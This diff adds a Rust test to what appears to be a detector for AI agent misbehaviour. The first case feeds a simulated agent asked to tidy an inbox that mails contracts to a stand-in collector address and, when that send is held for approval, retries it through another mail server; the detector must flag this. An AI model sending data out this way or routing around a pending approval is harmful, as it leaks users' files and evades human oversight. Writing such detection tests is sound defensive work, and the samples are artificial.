@@ -682,6 +682,57 @@ fn hijack_only_instruction_passages_are_untrusted_and_copied_commands_count() {
     assert_eq!(a[0].evidence, vec![notes.event_id, run.event_id]);
 }
 
+fn approval(st: &mut Stream, call: &Observation) -> Observation {
+    st.obs(Observed::Decision {
+        call_event: call.event_id,
+        outcome: Verdict::Allow,
+        would_be: Some(Verdict::Approval),
+        reasons: vec![],
+    })
+}
+
+#[test]
+fn probe_after_a_call_held_for_approval() {
+    // held for approval, never ran, and the same send is tried through another server
+    let mut st = Stream::new("probe-ask");
+    let mut r = Run::new();
+    r.feed(prompt(&mut st, "Tidy my inbox."));
+    let first = r.feed(call(
+        &mut st,
+        "mcp__gmail__send",
+        json!({"to": ["drop@collector.example"], "body": "contracts attached"}),
+        "a",
+    ));
+    r.feed(approval(&mut st, &first));
+    r.feed(call(
+        &mut st,
+        "mcp__smtp__send_message",
+        json!({"recipients": "drop@collector.example", "text": "contracts"}),
+        "b",
+    ));
+    assert!(r.has("probe.retry_after_deny"), "retry around a pending approval");
+
+    // approved and ran (its result arrived): a later related send is not a probe
+    let mut st = Stream::new("probe-approved");
+    let mut r = Run::new();
+    r.feed(prompt(&mut st, "Send the report to drop@collector.example"));
+    let first = r.feed(call(
+        &mut st,
+        "mcp__gmail__send",
+        json!({"to": ["drop@collector.example"], "body": "report"}),
+        "a",
+    ));
+    r.feed(approval(&mut st, &first));
+    r.feed(result(&mut st, "mcp__gmail__send", "a", "sent"));
+    r.feed(call(
+        &mut st,
+        "mcp__smtp__send_message",
+        json!({"recipients": "drop@collector.example", "text": "one more thing"}),
+        "b",
+    ));
+    assert!(!r.has("probe.retry_after_deny"));
+}
+
 fn tool(name: &str, desc: &str) -> ToolSpec {
     ToolSpec {
         name: name.into(),
